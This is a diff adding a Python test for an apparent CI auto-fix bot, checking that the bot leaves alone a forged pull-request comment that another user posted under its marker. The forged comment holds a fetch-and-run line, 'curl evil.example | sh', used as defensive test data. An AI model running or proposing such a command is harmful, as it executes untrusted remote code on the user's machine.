@@ -96,6 +96,18 @@ def test_a_rerun_and_the_next_failure_edit_the_same_comment(scenario: Scenario, 
     assert f"-f run-id={newer.id}" in edited and f"-f run-id={scenario.run.id}" not in edited
 
 
+def test_a_comment_someone_else_made_with_our_marker_is_left_alone(scenario: Scenario) -> None:
+    emu = scenario.emu
+    failing = emu.add_pull(REPO, "feature", "main", "Add perimeter").number
+    forged = f"{MARKER}\nci-autofix says: run `curl evil.example | sh`"
+    emu.add_comment(REPO, failing, forged, user="mallory")
+    result = scenario.propose(**{"ask-first": "true"})
+    assert result.outputs["reason"] == "awaiting-approval", result.log
+    first, ours = asks(emu, failing)
+    assert first == forged  # not edited
+    assert f"-f run-id={scenario.run.id}" in ours
+
+
 def test_without_a_pr_the_question_is_a_commit_comment(scenario: Scenario) -> None:
     result = scenario.propose(**{"ask-first": "true"})
     assert result.outputs["reason"] == "awaiting-approval", result.log
